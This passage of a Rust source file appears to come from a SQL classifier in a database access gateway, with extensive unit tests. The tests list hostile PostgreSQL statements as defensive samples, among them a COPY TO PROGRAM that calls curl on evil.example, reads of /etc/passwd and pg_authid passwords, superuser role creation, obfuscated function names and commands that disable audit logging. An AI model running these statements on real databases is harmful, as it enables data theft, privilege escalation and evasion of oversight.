            class: c,
            tag: w.tag.unwrap_or_else(|| "UNKNOWN".into()),
            flags: w.flags,
            relations: w.relations,
            functions: w.functions,
            calls: w.calls,
            operators: w.operators,
            columns: w.columns,
            aliases: w.aliases,
            attribute_calls: w.attribute_calls,
            created: w.created,
            renamed: w.renamed,
            derived: w.derived,
        });
    }
    if statements.is_empty() {
        return Err(ClassifyError::Empty);
    }
    Ok(Classified {
        statements: Arc::new(statements),
        class,
        fingerprint: Fingerprint::of(sql),
        redacted: None,
        resolved: None,
    })
}

/// The column references of output column `index` of a single `SELECT` (as a view's
/// definition is), or `None` when the statement is not a plain `SELECT` with that many
/// outputs (set operations, `*`), so callers fall back to the whole statement.
pub fn target_column_refs(sql: &str, index: usize) -> Option<Vec<Vec<String>>> {
    let parsed = pg_query::parse(sql, pg_query::ParserOptions::DEFAULT).ok()?;
    let raw = parsed.protobuf.stmts.first()?;
    let tree = serde_json::to_value(raw).ok()?;
    let select = tree.pointer("/stmt/node/SelectStmt")?;
    let targets = select.get("target_list")?.as_array()?;
    let target = targets.get(index)?;
    let mut w = Walk::default();
    walk(target, &mut w);
    if w.columns.iter().any(|c| c.last().is_some_and(|l| l == "*")) {
        return None;
    }
    Some(w.columns)
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use OperationClass::*;

    fn class(sql: &str) -> OperationClass {
        classify(sql).unwrap_or_else(|e| panic!("{sql}: {e}")).class
    }

    fn flags(sql: &str) -> Vec<Flag> {
        classify(sql)
            .unwrap()
            .statements
            .iter()
            .flat_map(|s| s.flags.clone())
            .collect()
    }

    #[test]
    fn trailing_semicolons_share_a_shape_and_second_statements_never_do() {
        assert_eq!(
            shape("SELECT a FROM t WHERE id = 1;"),
            shape("SELECT a FROM t WHERE id = 2 ;;")
        );
        assert!(shape("SELECT a FROM t WHERE id = 1;").is_some());
        assert_eq!(shape("SELECT 1; DELETE FROM t"), None);
        assert_eq!(shape("SELECT 1; -- trailing comment"), None);
        // A cached read never answers for a text with a second statement.
        assert_eq!(class("SELECT a FROM t WHERE id = 1;"), Read);
        assert_eq!(class("SELECT a FROM t WHERE id = 1; DELETE FROM t"), Write);
        assert_eq!(class("SELECT a FROM t WHERE id = 1;;"), Read);
    }

    #[test]
    fn attribute_notation_calls_are_classed_like_calls() {
        for sql in [
            "SELECT ('/etc/passwd'::text).pg_read_file",
            "SELECT f.pg_read_file FROM lower('/etc/passwd') AS f",
            "SELECT ('/etc/passwd'::text).lo_import",
            "SELECT ('/'::text).pg_ls_dir",
            "SELECT (12345).pg_terminate_backend",
            "SELECT x.y.PG_READ_FILE FROM t x",
        ] {
            assert_eq!(class(sql), Admin, "{sql}");
        }
        assert_eq!(class("SELECT ('orders_id_seq'::regclass).nextval"), Write);
        assert_eq!(
            class("SELECT ('UPDATE orders SET a = 1'::text).dblink_exec"),
            Exec
        );
        // Plain columns stay reads.
        assert_eq!(
            class("SELECT c.email, (c.addr).city FROM customers c"),
            Read
        );
    }

    #[test]
    fn functions_that_run_sql_text_are_exec() {
        for sql in [
            "SELECT * FROM ts_stat($$SELECT to_tsvector(set_config('standard_conforming_strings','off',false))$$)",
            "SELECT word FROM ts_stat('SELECT vector FROM apod')",
            "SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')",
            "SELECT * FROM crosstab('SELECT 1, 2, 3') AS ct(a int, b int)",
            "SELECT * FROM connectby('t', 'id', 'parent', '1', 0) AS c(id text, p text, l int)",
            "SELECT cron.schedule('0 * * * *', 'DELETE FROM t')",
        ] {
            assert_eq!(class(sql), Exec, "{sql}");
        }
        for sql in [
            "SELECT heap_force_kill('orders'::regclass, ARRAY['(0,4)']::tid[])",
            "SELECT count(*) FROM pg_show_all_file_settings()",
            "SELECT * FROM pg_hba_file_rules()",
            "SELECT pg_logical_emit_message(true, 'x', 'y')",
            "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)",
        ] {
            assert_eq!(class(sql), Admin, "{sql}");
        }
    }

    #[test]
    fn lifting_read_only_and_deciding_prepared_transactions_are_writes() {
        for sql in [
            "COMMIT PREPARED 'app1'",
            "ROLLBACK PREPARED 'app2'",
            "PREPARE TRANSACTION 'x'",
            "SET default_transaction_read_only = off",
            "SET default_transaction_read_only TO DEFAULT",
            "RESET transaction_read_only",
            "SET transaction_read_only = false",
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
            "SET TRANSACTION READ WRITE",
            "BEGIN READ WRITE",
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
            "SELECT * FROM orders FOR UPDATE",
            "SELECT * FROM orders o JOIN (SELECT id FROM t FOR SHARE) x USING (id)",
            "DECLARE c CURSOR FOR SELECT * FROM orders FOR UPDATE",
        ] {
            assert_eq!(class(sql), Write, "{sql}");
        }
        for sql in [
            "BEGIN",
            "BEGIN READ ONLY",
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY",
            "SET default_transaction_read_only = on",
            "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ",
            "COMMIT",
            "DISCARD PLANS",
        ] {
            assert_eq!(class(sql), Read, "{sql}");
        }
        assert_eq!(class("DISCARD ALL"), Privilege);
        assert_eq!(class("SET log_statement = 'none'"), Privilege);
        assert_eq!(class("SET pgaudit.log = 'none'"), Privilege);
    }

    #[test]
    fn reads() {
        for sql in [
            "SELECT 1",
            "select * from orders where id = 4",
            "SELECT o.id, c.email FROM orders o JOIN customers c ON c.id = o.customer_id",
            "WITH t AS (SELECT * FROM orders) SELECT count(*) FROM t",
            "SHOW search_path",
            "EXPLAIN SELECT * FROM orders",
            "BEGIN; SELECT 1; COMMIT",
            "COPY orders TO STDOUT",
            "SELECT pg_sleep(0)",
            "SET statement_timeout = '5s'",
            "DECLARE c CURSOR FOR SELECT * FROM orders",
            "SELECT row_to_json(o) FROM orders o",
        ] {
            assert_eq!(class(sql), Read, "{sql}");
        }
    }

    #[test]
    fn writes_anywhere_in_the_tree() {
        for sql in [
            "INSERT INTO orders (id) VALUES (1)",
            "UPDATE orders SET state = 'shipped' WHERE id = 4711",
            "DELETE FROM orders WHERE id = 1",
            "WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM gone",
            "WITH x AS (UPDATE orders SET state = 'x' WHERE id = 2 RETURNING id) SELECT 1",
            "SELECT 1; UPDATE orders SET state = 'x' WHERE id = 3",
            "COPY orders FROM STDIN",
            "MERGE INTO orders o USING new_orders n ON o.id = n.id WHEN MATCHED THEN UPDATE SET state = n.state",
            "SELECT nextval('orders_id_seq')",
            "SELECT * FROM (SELECT setval('s', 1)) x",
            "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1",
            "LOCK TABLE orders",
            "INSERT INTO audit SELECT * FROM orders",
        ] {
            assert_eq!(class(sql), Write, "{sql}");
        }
    }

    #[test]
    fn ddl_and_truncate() {
        for sql in [
            "DROP TABLE orders",
            "drop table if exists orders cascade",
            "CREATE TABLE t (id int)",
            "ALTER TABLE orders ADD COLUMN x int",
            "CREATE INDEX ON orders (id)",
            "SELECT * INTO backup FROM orders",
            "CREATE TABLE b AS SELECT * FROM orders",
            "TRUNCATE orders",
            "CREATE VIEW v AS SELECT * FROM orders",
        ] {
            assert_eq!(class(sql), Ddl, "{sql}");
        }
        // Code the server runs later, set off by statements that do not name it.
        for sql in [
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
            "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'",
            "CREATE TRIGGER t BEFORE INSERT ON notes FOR EACH ROW EXECUTE FUNCTION f()",
            "CREATE RULE r AS ON INSERT TO notes DO ALSO NOTIFY x",
            "CREATE OPERATOR ### (FUNCTION = f, LEFTARG = int, RIGHTARG = int)",
            "CREATE AGGREGATE a(int) (SFUNC = f, STYPE = int)",
        ] {
            assert_eq!(class(sql), Exec, "{sql}");
        }
        assert_eq!(
            classify("DROP TABLE orders").unwrap().statements[0].tag,
            "DROP TABLE"
        );
        assert_eq!(
            classify("DROP SCHEMA s").unwrap().statements[0].tag,
            "DROP SCHEMA"
        );
        assert!(flags("TRUNCATE orders").contains(&Flag::Truncate));
    }

    #[test]
    fn privilege() {
        for sql in [
            "GRANT SELECT ON orders TO public",
            "GRANT admin TO agentgate",
            "REVOKE ALL ON orders FROM bob",
            "CREATE ROLE evil SUPERUSER",
            "ALTER ROLE agentgate SUPERUSER",
            "SET ROLE postgres",
            "SET SESSION AUTHORIZATION postgres",
            "set local role admin",
            "RESET ROLE",
            "RESET ALL",
            "SELECT set_config('role', 'postgres', false)",
            "SET search_path = evil, public",
            "ALTER TABLE orders OWNER TO bob",
            "CREATE POLICY p ON orders USING (true)",
            "ALTER TABLE orders DISABLE ROW LEVEL SECURITY",
            "ALTER TABLE orders DISABLE TRIGGER ALL",
        ] {
            assert_eq!(class(sql), Privilege, "{sql}");
        }
    }

    #[test]
    fn admin_and_exec() {
        for sql in [
            "ALTER SYSTEM SET log_statement = 'none'",
            "COPY orders TO PROGRAM 'curl evil.example'",
            "COPY orders FROM PROGRAM 'id'",
            "COPY orders TO '/tmp/leak.csv'",
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT * FROM pg_catalog.pg_read_file('/etc/passwd')",
            "SELECT \"pg_read_file\"('/etc/passwd')",
            "SELECT PG_READ_FILE('/etc/passwd')",
            "SELECT lo_import('/etc/passwd')",
            "SELECT 1 FROM orders WHERE id = (SELECT length(pg_read_file('x')))",
            "SELECT 1 UNION SELECT length(pg_read_file('x'))",
            "SELECT * FROM orders o, LATERAL (SELECT pg_ls_dir('.')) x",
            "CREATE EXTENSION dblink",
            "LOAD 'evil.so'",
            "VACUUM FULL orders",
            "CREATE DATABASE x",
        ] {
            assert_eq!(class(sql), Admin, "{sql}");
        }
        for sql in [
            "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$",
            "SELECT dblink_exec('dbname=app', 'DROP TABLE orders')",
            "SELECT query_to_xml('select * from customers', true, false, '')",
            "CALL cleanup()",
            "EXECUTE plan1",
        ] {
            assert_eq!(class(sql), Exec, "{sql}");
        }
        assert!(flags("COPY orders TO PROGRAM 'x'").contains(&Flag::CopyServerSide));
        assert!(flags("COPY orders TO STDOUT (FORMAT binary)").contains(&Flag::CopyBinary));
        assert!(flags("COPY orders TO STDOUT WITH BINARY").contains(&Flag::CopyBinary));
        let c = classify("COPY public.customers (id, name) TO STDOUT").unwrap();
        assert!(
            c.statements[0]
                .columns
                .contains(&vec!["public.customers".to_owned(), "name".to_owned()])
        );
        assert!(flags("SELECT pg_read_file('x')").contains(&Flag::Function("pg_read_file".into())));
        assert_eq!(
            flags("EXECUTE plan1"),
            vec![Flag::ExecutePrepared("plan1".into())]
        );
    }

    #[test]
    fn no_where_including_constant_conditions() {
        for sql in [
            "UPDATE orders SET state = 'x'",
            "DELETE FROM orders",
            "DELETE FROM orders WHERE true",
            "DELETE FROM orders WHERE 1 = 1",
            "UPDATE orders SET state = 'x' WHERE 'a' = 'a' OR false",
            "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
        ] {
            assert!(
                flags(sql).iter().any(|f| matches!(f, Flag::NoWhere(_))),
                "{sql}"
            );
        }
        for sql in [
            "UPDATE orders SET state = 'x' WHERE id = 1",
            "DELETE FROM orders WHERE created_at < now() - interval '1 year'",
        ] {
            assert!(
                !flags(sql).iter().any(|f| matches!(f, Flag::NoWhere(_))),
                "{sql}"
            );
        }
    }

    #[test]
    fn multi_statement_strings_take_the_most_severe() {
        let c = classify("SELECT 1; DROP TABLE orders; SELECT 2").unwrap();
        assert_eq!(c.class, Ddl);
        assert_eq!(c.statements.len(), 3);
        assert_eq!(c.statements[1].tag, "DROP TABLE");
        assert_eq!(class("SELECT 1; ALTER SYSTEM SET fsync = off"), Admin);
    }

    #[test]
    fn what_postgres_rejects_is_refused() {
        for sql in [
            "SELEC 1",
            "DROP TABLE",
            "SELECT 'unterminated",
            "",
            "   ",
            "-- only a comment",
            "SELECT 1\0; DROP TABLE x",
        ] {
            assert!(classify(sql).is_err(), "{sql:?} should be refused");
        }
    }

    #[test]
    fn fingerprints_bind_the_exact_command() {
        let a = classify("UPDATE orders SET state = 'shipped' WHERE id = 4711")
            .unwrap()
            .fingerprint;
        let b = classify("update   orders set state='shipped'\n where id=4711 -- please")
            .unwrap()
            .fingerprint;
        let c = classify("UPDATE orders SET state = 'shipped' WHERE id = 4712")
            .unwrap()
            .fingerprint;
        assert_eq!(
            a, b,
            "whitespace, case of keywords and comments do not matter"
        );
        assert_ne!(a, c, "constants do");
        assert_eq!(a.get().len(), 64);
        // Identifiers fold as the server folds them; quoted ones and constants do not.
        let fp = |sql: &str| classify(sql).unwrap().fingerprint;
        assert_eq!(
            fp("DELETE FROM Orders WHERE ID = 1;"),
            fp("delete from orders where id = 1")
        );
        assert_ne!(
            fp("DELETE FROM \"Orders\" WHERE id = 1"),
            fp("DELETE FROM orders WHERE id = 1")
        );
        assert_ne!(fp("SELECT 'A'"), fp("SELECT 'a'"));
        // Trees libpg_query's deparser could not render (it crashed on `LOAD ''`).
        for sql in [
            "LOAD ''",
            "COPY t FROM ''",
            "ALTER SYSTEM SET work_mem = ''",
        ] {
            assert_eq!(fp(sql).get().len(), 64, "{sql}");
        }
    }

    #[test]
    fn statements_of_one_shape_share_a_classification_but_not_a_fingerprint() {
        // Pairs that differ only in constants: the cached classification (of the first) is
        // exactly what the second classifies as on its own; fingerprints stay per text.
        let pairs = [
            (
                "SELECT abalance FROM a WHERE aid = 1",
                "SELECT abalance FROM a WHERE aid = 99",
            ),
            (
                "UPDATE orders SET state = 'x' WHERE id = 1",
                "UPDATE orders SET state = 'y' WHERE id = 2",
            ),
            ("DELETE FROM t WHERE 1 = 1", "DELETE FROM t WHERE 1 = 2"),
            (
                "SELECT set_config('a', 'b', false)",
                "SELECT set_config('role', 'postgres', false)",
            ),
            (
                "SELECT dblink_exec('x', 'SELECT 1')",
                "SELECT dblink_exec('x', 'DROP TABLE t')",
            ),
            (
                "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
                "WITH d AS (DELETE FROM t WHERE id = 2 RETURNING *) SELECT * FROM d",
            ),
            (
                "INSERT INTO t VALUES (1, 'a')",
                "INSERT INTO t VALUES (2, E'\\x41')",
            ),
            ("SELECT $$a$$", "SELECT $x$b$x$"),
        ];
        for (a, b) in pairs {
            let first = classify(a).unwrap();
            let cached = classify(b).unwrap();
            let fresh = classify_uncached(b).unwrap();
            assert_eq!(cached.statements, fresh.statements, "{b}");
            assert_eq!(cached.class, fresh.class, "{b}");
            assert_eq!(cached.fingerprint.get(), fresh.fingerprint.get(), "{b}");
            assert_ne!(
                first.fingerprint.get(),
                cached.fingerprint.get(),
                "{a} / {b}"
            );
        }
        // COPY's options are constants that matter: never shared by shape.
        assert_eq!(shape("COPY t TO STDOUT (FORMAT 'text')"), None);
        classify("COPY t TO STDOUT (FORMAT 'text')").unwrap();
        assert!(
            classify("COPY t TO STDOUT (FORMAT 'binary')")
                .unwrap()
                .statements[0]
                .flags
                .contains(&Flag::CopyBinary)
        );
        // Settings that change how the server reads strings are privileged (blocked).
        for sql in [
            "SET standard_conforming_strings = off",
            "SET \"Standard_Conforming_Strings\" TO off",
            "SET LOCAL backslash_quote = on",
            "SET NAMES 'SJIS'",
            "SET client_encoding = 'BIG5'",
            "SET \"ROLE\" TO postgres",
        ] {
            assert_eq!(
                classify(sql).unwrap().class,
                OperationClass::Privilege,
                "{sql}"
            );
        }
        // Unicode escapes and multi-statement strings are never shared: UESCAPE's constant
        // decides what the identifier names, and a second statement could be a COPY.
        assert_eq!(
            shape("SELECT U&\"pg_read_fil!0065\" UESCAPE '#'('/x')"),
            None
        );
        assert!(
            classify("SELECT U&\"pg_read_fil!0065\" UESCAPE '!'('/etc/passwd')")
                .unwrap()
                .statements[0]
                .functions
                .contains("pg_read_file")
        );
        assert_eq!(shape("SELECT 1; COPY t TO STDOUT (FORMAT 'text')"), None);
        // Identifiers are part of the shape; constants of another kind too.
        assert_ne!(shape("SELECT a FROM t"), shape("SELECT b FROM t"));
        assert_ne!(shape("SELECT 1"), shape("SELECT '1'"));
        assert_ne!(shape("SELECT \"a b\""), shape("SELECT a b"));
        assert_eq!(shape("SELECT 1 -- x"), shape("SELECT   2 /* y */"));
    }

    #[test]
    fn relations_and_functions_are_reported() {
        let c =
            classify("SELECT lower(c.email) FROM public.customers c JOIN orders o ON o.cid = c.id")
                .unwrap();
        let s = &c.statements[0];
        assert!(s.relations.contains("public.customers") && s.relations.contains("orders"));
        assert!(s.functions.contains("lower"));
        assert_eq!(
            s.aliases.get("c"),
            Some(&["public.customers".to_owned()][..])
        );
        assert!(
            s.columns
                .contains(&vec!["c".to_owned(), "email".to_owned()])
        );
        let star = classify("SELECT c.* FROM customers c").unwrap();
        assert!(
            star.statements[0]
                .columns
                .contains(&vec!["c".to_owned(), "*".to_owned()])
        );
        let c = classify("UPDATE billing.invoices SET paid = true WHERE id = 1").unwrap();
        assert!(
            c.statements[0].relations.contains("billing.invoices"),
            "{:?}",
            c.statements[0]
        );
    }

    fn relations(sql: &str) -> Vec<Vec<String>> {
        classify(sql)
            .unwrap()
            .statements
            .iter()
            .map(|s| s.relations.iter().cloned().collect())
            .collect()
    }

    #[test]
    fn with_queries_are_not_tables_where_their_names_are_visible() {
        let r = |sql: &str| relations(sql).concat();
        // The main query reads the WITH query; its body reads the table.
        assert_eq!(r("WITH x AS (SELECT * FROM t) SELECT * FROM x"), ["t"]);
        // A body does not see its own name, nor later ones, without RECURSIVE.
        assert_eq!(
            r("WITH secret AS (SELECT * FROM secret) SELECT * FROM secret"),
            ["secret"]
        );
        assert_eq!(
            r("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b"),
            ["b"]
        );
        assert_eq!(
            r("WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b"),
            Vec::<String>::new()
        );
        // Under RECURSIVE every body sees every name.
        assert_eq!(
            r(
                "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 3) \
               SELECT * FROM n"
            ),
            Vec::<String>::new()
        );
        // A schema-qualified name is always a table.
        assert_eq!(
            r("WITH x AS (SELECT 1) SELECT * FROM public.x, x"),
            ["public.x"]
        );
        // Nested queries see their parents' WITH queries, in joins, sub-selects and EXISTS.
        assert_eq!(
            r("WITH x AS (SELECT 1 AS i) SELECT * FROM t JOIN x ON true \
               WHERE EXISTS (SELECT 1 FROM x) AND t.i IN (SELECT i FROM (SELECT * FROM x) s)"),
            ["t"]
        );
        // A WITH of a nested query is visible only inside it.
        assert_eq!(
            r("SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x"),
            ["x"]
        );
        assert_eq!(
            r("(WITH x AS (SELECT 1) SELECT * FROM x) UNION ALL SELECT * FROM x"),
            ["x"]
        );
        // ... while one on a set operation covers both of its sides.
        assert_eq!(
            r("WITH x AS (SELECT 1) SELECT * FROM x UNION SELECT * FROM x"),
            Vec::<String>::new()
        );
        // A table written to is a table, whatever WITH queries are visible.
        assert_eq!(
            r("WITH x AS (SELECT 1 AS i) INSERT INTO x SELECT i FROM x"),
            ["x"]
        );
        assert_eq!(
            r("WITH x AS (SELECT 1 AS i) UPDATE x SET i = 2 FROM x y WHERE x.i = y.i"),
            ["x"]
        );
        assert_eq!(
            r("WITH x AS (SELECT 1 AS i) DELETE FROM x USING x y WHERE x.i = y.i"),
            ["x"]
        );
        assert_eq!(
            r(
                "WITH x AS (SELECT 1 AS i) MERGE INTO x USING x s ON x.i = s.i \
               WHEN MATCHED THEN DELETE"
            ),
            ["x"]
        );
        assert_eq!(r("WITH x AS (SELECT 1) SELECT * INTO x FROM x"), ["x"]);
        // Data-modifying WITH queries write their own targets.
        assert_eq!(
            r(
                "WITH x AS (SELECT 1 AS i), d AS (INSERT INTO x SELECT * FROM x RETURNING *) \
               SELECT * FROM d"
            ),
            ["x"]
        );
        // A WITH query's alias is no alias of a table.
        let c = classify("WITH x AS (SELECT 1 AS i) SELECT y.i FROM x y").unwrap();
        assert!(c.statements[0].aliases.is_empty(), "{:?}", c.statements[0]);
    }

    #[test]
    fn select_into_in_a_set_operation_creates_its_table() {
        for sql in [
            "SELECT 1 AS a INTO made UNION SELECT 2",
            "SELECT 1 AS a INTO made UNION SELECT 2 UNION SELECT 3",
            "EXPLAIN ANALYZE SELECT 1 AS a INTO made UNION SELECT 2",
            "WITH x AS (SELECT 1) SELECT * INTO made FROM x UNION SELECT 2",
        ] {
            let c = classify(sql).unwrap();
            assert_eq!(c.class, OperationClass::Ddl, "{sql}");
            assert!(c.statements[0].created.contains("made"), "{sql}");
        }
    }

    #[test]
    fn alias_lists_that_rename_table_columns_are_reported() {
        let renamed = |sql: &str| classify(sql).unwrap().statements[0].renamed;
        assert!(renamed("SELECT t.id FROM customers AS t(a, id)"));
        assert!(renamed("SELECT j.x FROM (a JOIN b ON true) AS j(x)"));
        assert!(renamed(
            "SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u AS v(a))"
        ));
        assert!(!renamed("SELECT c.id FROM customers AS c"));
        assert!(!renamed("SELECT g.i FROM generate_series(1, 3) AS g(i)"));
    }

    #[test]
    fn functions_returning_a_relations_rows_read_it() {
        let c = classify("SELECT convert_from(lo_get(16400), 'UTF8')").unwrap();
        assert!(
            c.statements[0]
                .relations
                .contains("pg_catalog.pg_largeobject")
        );
        let c = classify("SELECT query FROM pg_stat_get_activity(NULL)").unwrap();
        assert!(
            c.statements[0]
                .relations
                .contains("pg_catalog.pg_stat_activity")
        );
        let c =
            classify("SELECT pg_stat_get_backend_activity(s) FROM pg_stat_get_backend_idset() s")
                .unwrap();
        assert!(
            c.statements[0]
                .relations
                .contains("pg_catalog.pg_stat_activity")
        );
    }

    #[test]
    fn settings_other_than_harmless_ones_are_privileged() {
        // Custom settings row-level security reads, limits lifted, the server's behaviour.
        for sql in [
            "SET request.jwt.claims = '{\"sub\": \"1\", \"role\": \"admin\"}'",
            "SET app.tenant_id = '7'",
            "SET LOCAL app.tenant_id = '7'",
            "SET SESSION app.tenant_id TO '7'",
            "SET \"App.Tenant_Id\" = '7'",
            "RESET app.tenant_id",
            "SET app.tenant_id TO DEFAULT",
            "RESET request.jwt.claims",
            "SET statement_timeout = 0",
            "SET statement_timeout = '0'",
            "SET LOCAL statement_timeout = '0ms'",
            "SET idle_in_transaction_session_timeout = 0",
            "SET idle_session_timeout = '0'",
            "SET lock_timeout = '2h'",
            "SET statement_timeout = '7d'",
            "SET statement_timeout = '0x10'",
            "SET statement_timeout = '010'",
            "SET statement_timeout = '100us'",
            "SET statement_timeout = '5 fortnights'",
            "SET session_replication_role = replica",
            "SET row_security = off",
            "SET default_tablespace = 'fast'",
            "SET search_path = evil, public",
            "SET enable_seqscan.x = off",
            "RESET ALL",
            "DISCARD ALL",
        ] {
            assert_eq!(class(sql), Privilege, "{sql}");
        }
        assert_eq!(
            classify("SET app.tenant_id = '7'").unwrap().statements[0].tag,
            "SET"
        );
        assert_eq!(
            classify("RESET ALL").unwrap().statements[0].tag,
            "RESET ALL"
        );
    }

    #[test]
    fn harmless_settings_stay_reads() {
        for sql in [
            // The session's own resources (pg_dump's scripts set some of these).
            "SET work_mem = '4GB'",
            "SET maintenance_work_mem = '2GB'",
            "SET max_parallel_workers_per_gather = 4",
            "SET temp_buffers = '64MB'",
            "SET check_function_bodies = false",
            "SET synchronous_commit = off",
            "SET DateStyle = ISO, MDY",
            "SET datestyle TO 'German'",
            "SET TIME ZONE 'UTC'",
            "SET TIME ZONE LOCAL",
            "SET timezone TO 'Europe/Berlin'",
            "SET application_name = 'report'",
            "SET extra_float_digits = 3",
            "SET client_min_messages = warning",
            "SET IntervalStyle = postgres",
            "SET bytea_output = hex",
            "SET lc_messages = 'C'",
            "SET lc_monetary = 'C'",
            "SET LOCAL lc_numeric = 'C'",
            "RESET lc_time",
            "SET XML OPTION DOCUMENT",
            "SET default_text_search_config = 'pg_catalog.english'",
            "SET statement_timeout = '5s'",
            "SET statement_timeout = 30000",
            "SET statement_timeout = 1.5",
            "SET statement_timeout = '1h'",
            "SET statement_timeout = '60 min'",
            "SET LOCAL lock_timeout = '1min'",
            "SET idle_in_transaction_session_timeout = '10s'",
            "RESET statement_timeout",
            "SET statement_timeout TO DEFAULT",
            "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
            "SET TRANSACTION SNAPSHOT '00000003-0000001B-1'",
            "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL READ COMMITTED",
            "SET default_transaction_isolation = 'repeatable read'",
            "SET default_transaction_read_only = on",
            "SET enable_seqscan = off",
            "SET LOCAL enable_nestloop TO false",
            "SET random_page_cost = 1.1",
            "SET jit = off",
            "DISCARD PLANS",
            "DISCARD SEQUENCES",
        ] {
            assert_eq!(class(sql), Read, "{sql}");
        }
        // The read-only safety net lifted is still a write.
        assert_eq!(class("SET default_transaction_read_only = off"), Write);
        assert_eq!(class("SET LOCAL transaction_read_only TO DEFAULT"), Write);
        // DISCARD TEMP drops the session's temporary tables.
        assert_eq!(class("DISCARD TEMP"), Ddl);
        assert_eq!(class("DISCARD TEMPORARY"), Ddl);
    }

    #[test]
    fn system_views_over_server_files_and_credentials_are_admin() {
        for sql in [
            "SELECT * FROM pg_hba_file_rules",
            "SELECT * FROM pg_catalog.pg_hba_file_rules",
            "SELECT count(*) FROM pg_file_settings",
            "SELECT * FROM pg_ident_file_mappings",
            "SELECT * FROM pg_config",
            "SELECT * FROM pg_config()",
            "SELECT * FROM pg_shmem_allocations",
            "SELECT * FROM pg_backend_memory_contexts",
            "SELECT * FROM pg_get_backend_memory_contexts()",
            "SELECT rolname, rolpassword FROM pg_authid",
            "SELECT passwd FROM pg_catalog.pg_shadow",
            "SELECT umoptions FROM pg_user_mappings",
            "SELECT 1 WHERE EXISTS (SELECT 1 FROM pg_file_settings)",
            "WITH x AS (SELECT * FROM pg_hba_file_rules) SELECT * FROM x",
            "SELECT * FROM orders o JOIN pg_hba_file_rules r ON true",
            "CREATE VIEW rules AS SELECT * FROM pg_hba_file_rules",
        ] {
            assert_eq!(class(sql), Admin, "{sql}");
        }
        for sql in [
            "SELECT name, setting FROM pg_settings",
            "SELECT * FROM app.pg_hba_file_rules",
            "WITH pg_config AS (SELECT 1) SELECT * FROM pg_config",
            "SELECT * FROM pg_stat_activity",
            "SELECT rolname FROM pg_roles",
        ] {
            assert_eq!(class(sql), Read, "{sql}");
        }
    }

    #[test]
    fn dropping_policies_triggers_and_rules_is_a_privilege_change() {
        for sql in [
            "DROP POLICY p ON t",
            "DROP POLICY IF EXISTS tenant_isolation ON public.orders",
            "DROP TRIGGER audit ON orders",
            "DROP TRIGGER IF EXISTS audit ON orders CASCADE",
            "DROP RULE r ON t",
            "ALTER TABLE orders ENABLE REPLICA TRIGGER audit",
            "ALTER TABLE orders ENABLE ALWAYS TRIGGER audit",
            "ALTER TABLE orders ENABLE TRIGGER audit",
            "ALTER TABLE orders ENABLE TRIGGER ALL",
            "ALTER TABLE orders ENABLE TRIGGER USER",
            "ALTER TABLE orders ENABLE REPLICA RULE r",
            "ALTER TABLE orders ENABLE ALWAYS RULE r",
            "ALTER TABLE orders ENABLE RULE r",
            "ALTER TABLE orders DISABLE RULE r",
            "ALTER TABLE orders DISABLE ROW LEVEL SECURITY",
            "ALTER TABLE orders NO FORCE ROW LEVEL SECURITY",
            "ALTER TABLE orders ADD COLUMN x int, DISABLE TRIGGER audit",
        ] {
            assert_eq!(class(sql), Privilege, "{sql}");
        }
        for sql in [
            "DROP EVENT TRIGGER audit_ddl",
            "DROP EXTENSION pgaudit",
            "DROP SERVER remote CASCADE",
            "DROP FOREIGN DATA WRAPPER w",
            "DROP PUBLICATION p",
            "DROP LANGUAGE plpython3u",
            "DROP CAST (text AS int)",
            "DROP ACCESS METHOD am",
        ] {
            assert_eq!(class(sql), Admin, "{sql}");
        }
        for sql in [
            "DROP TABLE orders",
            "DROP VIEW v",
            "DROP FUNCTION f()",
            "DROP INDEX i",
            "DROP SEQUENCE s",
        ] {
            assert_eq!(class(sql), Ddl, "{sql}");
        }
        let tag = |sql: &str| classify(sql).unwrap().statements[0].tag.clone();
        assert_eq!(tag("DROP POLICY p ON t"), "DROP POLICY");
        assert_eq!(tag("DROP TRIGGER a ON t"), "DROP TRIGGER");
        assert_eq!(tag("DROP EVENT TRIGGER e"), "DROP EVENT TRIGGER");
    }

    #[test]
    fn writing_pg_settings_is_a_privilege_change() {
        for sql in [
            "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
            "UPDATE pg_catalog.pg_settings SET setting = '7' WHERE name = 'app.tenant_id'",
            "WITH u AS (UPDATE pg_settings SET setting = 'off' WHERE name = 'row_security' \
             RETURNING *) SELECT * FROM u",
            "WITH pg_settings AS (SELECT 1) UPDATE pg_settings SET setting = 'x' WHERE name = 'y'",
            "INSERT INTO pg_settings (name, setting) VALUES ('a', 'b')",
            "DELETE FROM pg_settings WHERE name = 'x'",
            "MERGE INTO pg_settings s USING (SELECT 'x' AS n) v ON s.name = v.n \
             WHEN MATCHED THEN UPDATE SET setting = 'y'",
            "COPY pg_settings FROM STDIN",
            "SELECT 1; UPDATE pg_settings SET setting = 'x' WHERE name = 'y'",
        ] {
            assert_eq!(class(sql), Privilege, "{sql}");
        }
        assert!(
            flags("UPDATE pg_settings SET setting = 'x' WHERE name = 'y'")
                .contains(&Flag::Function("set_config".into()))
